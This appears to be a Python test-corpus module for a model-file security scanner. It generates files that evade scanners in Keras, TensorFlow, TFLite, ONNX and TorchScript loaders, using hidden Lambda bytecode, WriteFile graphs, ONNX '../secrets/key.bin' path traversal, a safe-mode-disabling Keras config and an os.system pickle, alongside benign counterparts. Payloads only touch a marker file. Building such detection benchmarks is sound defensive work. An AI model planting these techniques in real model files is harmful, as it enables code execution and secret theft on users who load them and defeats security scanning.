"""Bypasses a second engineer found in the graph and format readers (held-out corpus).

Each sample is a way past the readers as they stood when
``benchmarks/heldout/graph_techniques.py`` was first run, with the loader
behaviour that makes it work:

- an HDF5 model behind a *user block*: the HDF5 library finds its superblock
  at 512, 1024, ... so Keras opens a file whose first bytes are JSON;
- protobuf roots (ONNX ``ModelProto``, ``SavedModel``, a frozen ``GraphDef``)
  whose fields come in another order or with over-long varints: protobuf
  parsers accept both, so ONNX Runtime and TensorFlow read them;
- ``saved_model.pbtxt``, which TensorFlow's loader reads when there is no
  ``saved_model.pb``, and a frozen ``GraphDef`` (TF1 ``import_graph_def``);
- a TFLite Flex operator whose ``custom_code`` and NodeDef say ``NoOp`` while
  its FlexBuffer names ``WriteFile``: the Flex delegate runs the FlexBuffer's
  op (``tensorflow/lite/delegates/flex/kernel.cc``);
- ONNX external data in the body of a model-local function, which the runtime
  inlines (onnxruntime 1.20 reads ``../`` there);
- a tar archive with a Keras zip appended: Keras's ``zipfile`` finds the
  archive from the end of the file;
- TorchScript code that Python's parser refuses for mixing tabs and spaces
  (TorchScript's lexer counts a tab as one column) and that reaches
  ``torch.from_file`` through ``getattr(torch, "from_file")``, in a helper
  module the archive's class calls from ``__setstate__``;
- a Keras config that turns safe mode off for the whole process
  (``global_state.set_global_attribute``, Keras <= 3.10).

Payloads only create a marker file (``marker`` names it where the loader is
installable here; ``loader`` stays None: tests/scanning/test_graph_attacks.py
loads them with Keras and torch.jit). Benign neighbours (a tar whose last
member is a zip, a Flex ``PrintV2`` to stderr, a benign frozen graph, a local
ONNX function with an inline constant, a TFLite model with its associated
files) must get nothing at medium or above.
"""

from __future__ import annotations

import io
import json
import os
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

from openward._samples import PickleAsm
from openward._zoo.keras_tf_torchscript import (
    _Flat,
    _keras_zip,
    _lambda_layer,
    _sequential,
    lambda_code,
)

__all__ = [
    "benign",
    "flexbuffer_pair",
    "malicious",
    "onnx_reordered",
    "protobuf",
    "tflite_custom",
    "tflite_with_associated_files",
    "torchscript_split_tabs",
]

Add = Callable[..., None]


# ---------------------------------------------------------------------------
# writers
# ---------------------------------------------------------------------------


def _varint(value: int, width: int = 1) -> bytes:
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        if value or len(out) + 1 < width:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def protobuf(
    fields: Sequence[tuple[int, int | str | bytes]], *, long_varints: bool = False
) -> bytes:
    """``(number, value)`` fields in the order given; ``long_varints`` writes every tag
    and length on five bytes (legal protobuf, which parsers accept)."""
    width = 5 if long_varints else 1
    out = bytearray()
    for number, value in fields:
        if isinstance(value, int):
            out += _varint(number << 3, width) + _varint(value)
        else:
            raw = value.encode() if isinstance(value, str) else value
            out += _varint(number << 3 | 2, width) + _varint(len(raw), width) + raw
    return bytes(out)


def _node(name: str, op: str, *inputs: str, attrs: dict[str, bytes] | None = None) -> bytes:
    """NodeDef: name=1, op=2, input=3, attr=5 (key=1, AttrValue=2)."""
    fields: list[tuple[int, int | str | bytes]] = [(1, name), (2, op)]
    fields += [(3, i) for i in inputs]
    fields += [(5, protobuf([(1, k), (2, v)])) for k, v in (attrs or {}).items()]
    return protobuf(fields)


def _const(name: str, value: str) -> bytes:
    tensor = protobuf([(1, 7), (8, value)])  # TensorProto: dtype DT_STRING, string_val
    return _node(
        name, "Const", attrs={"dtype": protobuf([(6, 7)]), "value": protobuf([(8, tensor)])}
    )


def _write_file_graph(path: str) -> list[bytes]:
    return [
        _const("path", path),
        _const("contents", "x"),
        _node("write", "WriteFile", "path", "contents"),
        _node("out", "Identity", "contents", "^write", attrs={"T": protobuf([(6, 7)])}),
    ]


def _saved_model_reordered(nodes: list[bytes]) -> bytes:
    """SavedModel{meta_graphs{graph_def{node...}}, schema version} with reversed fields."""
    graph = protobuf([(4, protobuf([(1, 1645)])), *[(1, n) for n in nodes]], long_varints=True)
    meta = protobuf([(2, graph), (1, protobuf([(4, "serve")]))][::-1], long_varints=True)
    return protobuf([(2, meta), (1, 1)], long_varints=True)


def flexbuffer_pair(first: bytes, second: bytes) -> bytes:
    """A FlexBuffer vector of two strings, 1-byte widths (what the Flex delegate reads)."""
    if len(first) > 120 or len(second) > 120:
        raise ValueError("kept to one-byte offsets")
    head = bytes([len(first)]) + first + b"\x00" + bytes([len(second)]) + second + b"\x00"
    first_at, second_at = 1, len(first) + 3
    vector = len(head) + 1  # after the size byte
    elements = bytes([vector - first_at, vector + 1 - second_at])
    body = head + b"\x02" + elements + b"\x14\x14"  # two elements, each a 1-byte STRING
    root = len(body)
    return body + bytes([root - vector, 0x28, 1])  # offset, VECTOR of 1-byte elements, width


def tflite_custom(operators: list[tuple[str, bytes]]) -> bytes:
    """A TFLite model of CUSTOM operators ``(custom_code, custom_options)``.

    OperatorCode: deprecated_builtin_code=0, custom_code=1, version=2,
    builtin_code=3 (32 is CUSTOM); Operator: opcode_index=0, custom_options=5.
    """
    codes = [{0: 32, 1: code.encode(), 2: 1, 3: 32} for code, _ in operators]
    ops = [{0: i, 5: options} for i, (_, options) in enumerate(operators)]
    flat = _Flat()
    flat.buf += bytes(4) + b"TFL3"
    root = flat.emit({0: 3, 1: codes, 2: [{3: ops}]})
    flat.buf[0:4] = root.to_bytes(4, "little")
    return bytes(flat.buf)


def tflite_with_associated_files(members: list[tuple[str, bytes]]) -> bytes:
    """A TFLite model followed by the zip of its metadata's associated files, laid out
    as tflite_support's MetadataPopulator writes it (zip offsets from the file start)."""
    flat = _Flat()
    flat.buf += bytes(4) + b"TFL3"
    model = {0: 3, 1: [{3: 0}], 2: [{3: [{0: 0}]}], 4: [{}, {0: bytes(16)}]}
    root = flat.emit(model)
    flat.buf[0:4] = root.to_bytes(4, "little")
    buf = io.BytesIO(bytes(flat.buf))
    with zipfile.ZipFile(buf, "a") as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buf.getvalue()


def _onnx_tensor_external(name: str, location: str) -> Any:
    from onnx import TensorProto

    tensor = TensorProto(name=name, data_type=TensorProto.UINT8, dims=[4])
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "4")):
        tensor.external_data.add(key=key, value=value)
    return tensor


def _onnx_function_model(value: Any) -> bytes:
    """A graph calling a model-local function whose body is one Constant of ``value``."""
    from onnx import TensorProto, helper

    function = helper.make_function(
        "local",
        "Weights",
        [],
        ["o"],
        [helper.make_node("Constant", [], ["o"], value=value)],
        [helper.make_opsetid("", 17)],
    )
    y = helper.make_tensor_value_info("y", TensorProto.UINT8, [4])
    graph = helper.make_graph(
        [helper.make_node("Weights", [], ["y"], domain="local")], "g", [], [y]
    )
    model = helper.make_model(
        graph,
        functions=[function],
        opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("local", 1)],
        ir_version=8,
    )
    return bytes(model.SerializeToString())


def onnx_reordered(location: str) -> bytes:
    """An Identity model on an external initializer, with ModelProto's fields reordered:
    graph (7) first, five-byte tags and lengths, ir_version (1) last."""
    from onnx import TensorProto, helper

    y = helper.make_tensor_value_info("y", TensorProto.UINT8, [4])
    graph = helper.make_graph(
        [helper.make_node("Identity", ["w"], ["y"])],
        "g",
        [],
        [y],
        initializer=[_onnx_tensor_external("w", location)],
    )
    opset = helper.make_opsetid("", 17).SerializeToString()
    return protobuf([(7, graph.SerializeToString()), (8, opset), (1, 8)], long_varints=True)


def _legacy_h5_lambda(command: str, user_block: bytes) -> bytes:
    """A legacy (tf.keras) HDF5 model whose Lambda runs ``command``, after ``user_block``."""
    import h5py
    import numpy as np

    size = 512
    while size < len(user_block):
        size *= 2
    lam = {
        "class_name": "Lambda",
        "name": "lam",
        "config": {
            "name": "lam",
            "trainable": True,
            "dtype": "float32",
            "function": {
                "class_name": "__lambda__",
                "config": {"code": lambda_code(command), "defaults": None, "closure": None},
            },
            "arguments": {},
        },
        "inbound_nodes": [
            {
                "args": [
                    {
                        "class_name": "__keras_tensor__",
                        "config": {
                            "shape": [None, 4],
                            "dtype": "float32",
                            "keras_history": ["x", 0, 0],
                        },
                    }
                ],
                "kwargs": {},
            }
        ],
    }
    inp = {
        "class_name": "InputLayer",
        "name": "x",
        "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "x"},
        "inbound_nodes": [],
    }
    config = {
        "class_name": "Functional",
        "config": {
            "name": "functional",
            "trainable": True,
            "layers": [inp, lam],
            "input_layers": ["x", 0, 0],
            "output_layers": ["lam", 0, 0],
        },
    }
    buf = io.BytesIO()
    with h5py.File(buf, "w", userblock_size=size) as h5:
        h5.attrs["backend"] = "tensorflow"
        h5.attrs["keras_version"] = "2.15.0"
        h5.attrs["model_config"] = json.dumps(config)
        weights = h5.create_group("model_weights")
        weights.attrs["layer_names"] = np.array([b"x", b"lam"])
        for name in ("x", "lam"):
            weights.create_group(name).attrs["weight_names"] = np.array([], dtype="S1")
    data = bytearray(buf.getvalue())
    data[: len(user_block)] = user_block
    return bytes(data)


def _tar(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


_TORCHSCRIPT_BUILD = r"""
import sys
from typing import Tuple
import torch

class Holder(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.x = torch.zeros(1)

    def forward(self, x):
        return x + self.x

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, bool]:
        return (self.x, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, bool]) -> None:
        self.x = state[0]
        self.training = state[1]

torch.jit.save(torch.jit.script(Holder()), sys.argv[1])
"""


def _torchscript_holder() -> bytes | None:
    """A scripted module with __getstate__/__setstate__, built by torch in a subprocess
    (TorchScript compiles from a source file); None without torch."""
    import importlib.util

    if importlib.util.find_spec("torch") is None:
        return None
    with tempfile.TemporaryDirectory() as tmp:
        script, out = Path(tmp) / "holder.py", Path(tmp) / "holder.pt"
        script.write_text(_TORCHSCRIPT_BUILD)
        done = subprocess.run(
            [sys.executable, str(script), str(out)],
            env={**os.environ, "PYTHONWARNINGS": "ignore"},
            capture_output=True,
            timeout=300,
            check=False,
        )
        return out.read_bytes() if done.returncode == 0 and out.exists() else None


def torchscript_split_tabs(archive: bytes, marker: str) -> bytes:
    """``__setstate__`` calls ``__torch__.helpers.run``; helpers.py mixes tabs and spaces
    and reaches ``torch.from_file(marker, shared=True)`` through ``getattr``."""
    helper = (
        "def run(p: str) -> Tensor:\n"
        "    n = 4\n"
        '\t   return getattr(torch, "from_file")(p, True, n)\n'  # a tab, then 3 spaces
    )
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as src, zipfile.ZipFile(out, "w") as dst:
        prefix = src.namelist()[0].split("/", 1)[0]
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith(".debug_pkl"):
                continue  # the debug info no longer matches the edited source
            if "/code/" in info.filename and info.filename.endswith(".py"):
                tail = "    self.training = (state)[1]\n"
                call = f"    self.x = __torch__.helpers.run({marker!r})\n"
                text = data.decode().replace(tail, tail + call)
                data = text.encode()
            dst.writestr(info, data)
        dst.writestr(f"{prefix}/code/__torch__/helpers.py", helper)
    return out.getvalue()


def _marker(touch: Callable[[str], str], tag: str) -> str:
    return touch(tag)[len("touch ") :]


# ---------------------------------------------------------------------------
# samples
# ---------------------------------------------------------------------------


def malicious(add: Add, touch: Callable[[str], str]) -> None:
    tag = "graph-h5-userblock"
    block = json.dumps({"model_card": "see README", "license": "apache-2.0"}).encode()
    add(
        "graph/userblock.h5",
        _legacy_h5_lambda(touch(tag), block.ljust(511) + b"\n"),
        tag,
        "legacy Keras HDF5 with a bytecode Lambda behind a 512-byte user block that reads as JSON",
        "keras-lambda",
        marker=tag,
    )
    tag = "graph-tar-then-keras"
    add(
        "graph/bundle.keras",
        _tar([("README.md", b"# weights\n"), ("vocab.txt", b"a\nb\n")])
        + _keras_zip(json.dumps(_sequential(_lambda_layer(touch(tag)))).encode()),
        tag,
        "tar archive with a Keras zip (bytecode Lambda) appended after its last member",
        "keras-lambda",
        marker=tag,
    )
    tag = "graph-tar-then-keras-absolute"
    bundle = io.BytesIO(_tar([("README.md", b"# weights\n")]))
    with zipfile.ZipFile(bundle, "a") as archive:  # offsets counted from the file's start
        archive.writestr("config.json", json.dumps(_sequential(_lambda_layer(touch(tag)))))
    add(
        "graph/bundle_absolute.keras",
        bundle.getvalue(),
        tag,
        "tar with a Keras zip appended whose offsets count from the start of the file",
        "keras-lambda",
        marker=tag,
    )
    tag = "graph-saved-model-reordered"
    add(
        "graph/reordered/saved_model.pb",
        _saved_model_reordered(_write_file_graph(_marker(touch, tag))),
        tag,
        "SavedModel whose fields are reversed and written with five-byte varints (WriteFile)",
        "tf-file-write",
    )
    tag = "graph-saved-model-text"
    marker = _marker(touch, tag)
    add(
        "graph/text/saved_model.pbtxt",
        (
            "saved_model_schema_version: 1\nmeta_graphs { graph_def {\n"
            '  node { name: "p" op: "Const"\n'
            '    attr { key: "dtype" value { type: DT_STRING } }\n'
            '    attr { key: "value" value { tensor { dtype: DT_STRING\n'
            f'      string_val: "{marker}" }} }} }}\n'
            "  }\n"
            '  node { name: "w" op: "WriteFile" input: "p" input: "p" }\n'
            "  versions { producer: 1645 }\n} }\n"
        ).encode(),
        tag,
        "saved_model.pbtxt (TensorFlow reads the text form when no .pb exists) with WriteFile",
        "tf-file-write",
    )
    tag = "graph-frozen-graph"
    add(
        "graph/frozen_graph.pb",
        protobuf([(1, n) for n in _write_file_graph(_marker(touch, tag))]),
        tag,
        "frozen TF1 GraphDef (import_graph_def) with WriteFile",
        "tf-file-write",
    )
    tag = "graph-flex-renamed"
    options = flexbuffer_pair(b"WriteFile", _node("write", "NoOp"))
    add(
        "graph/flex_renamed.tflite",
        tflite_custom([("FlexNoOp", options)]),
        tag,
        "TFLite Flex operator: custom_code FlexNoOp, NodeDef NoOp, FlexBuffer op WriteFile",
        "tf-file-write",
    )
    add(
        "graph/reordered.onnx",
        onnx_reordered("../../secrets/key.bin"),
        "graph-onnx-reordered",
        "ONNX ModelProto with graph first and five-byte varints; external data ../../",
        "onnx-external-data-escape",
        "high",
    )
    add(
        "graph/function_external.onnx",
        _onnx_function_model(_onnx_tensor_external("w", "../secrets/key.bin")),
        "graph-onnx-function-external",
        "external data ../ in a Constant inside a model-local function",
        "onnx-external-data-escape",
        "high",
    )
    safe_mode_off = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "off",
            "function": {
                "module": "keras.src.backend.common.global_state",
                "class_name": "function",
                "config": "set_global_attribute",
                "registered_name": "function",
            },
            "arguments": {"value": False},
        },
    }
    add(
        "graph/safe_mode_off.keras",
        _keras_zip(json.dumps(_sequential(safe_mode_off)).encode()),
        "graph-keras-safe-mode-off",
        "Keras <= 3.10: a Lambda calling set_global_attribute('safe_mode_saving', False)",
        "keras-external-reference",
        "high",
    )
    tag = "graph-tflite-associated-pickle"
    add(
        "graph/associated_pickle.tflite",
        tflite_with_associated_files(
            [
                ("labels.txt", b"cat\ndog\n"),
                (
                    "labels.pkl",
                    PickleAsm()
                    .glob("os", "system")
                    .unicode(touch(tag))
                    .tuple1()
                    .reduce()
                    .stop()
                    .bytes(),
                ),
            ]
        ),
        tag,
        "a pickle among a TFLite model's associated files (the zip is still analysed)",
        "pickle-dangerous-global",
    )
    holder = _torchscript_holder()
    if holder is not None:
        tag = "graph-torchscript-tabs"
        add(
            "graph/split_tabs.pt",
            torchscript_split_tabs(holder, _marker(touch, tag)),
            tag,
            "TorchScript helper Python refuses (tabs and spaces) reaching getattr(torch, "
            "'from_file') from __setstate__",
            "torchscript-file-write",
            marker=tag,
        )


def benign(add: Add) -> None:
    from openward._zoo.detection import tflite_with_metadata

    add(
        "graph/labels_associated.tflite",
        tflite_with_metadata(["labels.txt"], {"labels.txt": b"cat\ndog\n"}),
        "graph-tflite-associated-files",
        "a TFLite model with its metadata's associated files zipped after it (MediaPipe)",
    )
    inner = _keras_zip(json.dumps(_sequential()).encode())
    add(
        "graph/tar_with_keras_member.tar",
        _tar([("README.md", b"# model\n"), ("model.keras", inner)]),
        "graph-tar-zip-member",
        "a tar whose last member is a .keras zip (the zip is a member, not appended)",
    )
    stderr = _node(
        "print",
        "PrintV2",
        "msg",
        attrs={"output_stream": protobuf([(2, "stderr")]), "end": protobuf([(2, "\n")])},
    )
    add(
        "graph/flex_print.tflite",
        tflite_custom([("FlexPrintV2", flexbuffer_pair(b"PrintV2", stderr))]),
        "graph-flex-print-stderr",
        "TFLite Flex PrintV2 to stderr (tf.print in a converted model)",
    )
    matmul = [
        _node("x", "Placeholder", attrs={"dtype": protobuf([(6, 1)])}),
        _node("w", "Const", attrs={"dtype": protobuf([(6, 1)])}),
        _node("y", "MatMul", "x", "w", attrs={"T": protobuf([(6, 1)])}),
    ]
    add(
        "graph/frozen_matmul.pb",
        protobuf([(1, n) for n in matmul] + [(4, protobuf([(1, 1645)]))]),
        "graph-frozen-benign",
        "a frozen GraphDef of Placeholder, Const and MatMul",
    )
    from onnx import TensorProto, helper

    inline = helper.make_tensor("w", TensorProto.UINT8, [4], b"\x01\x02\x03\x04", raw=True)
    add(
        "graph/function_inline.onnx",
        _onnx_function_model(inline),
        "graph-onnx-function-inline",
        "an ONNX model-local function returning an inline Constant",
    )
    add(
        "graph/legacy_float.bin",
        struct.pack("<256f", *[i / 7 for i in range(256)]),
        "graph-raw-floats",
        "raw float32 weights (protobuf-shaped detection must not claim them)",
    )
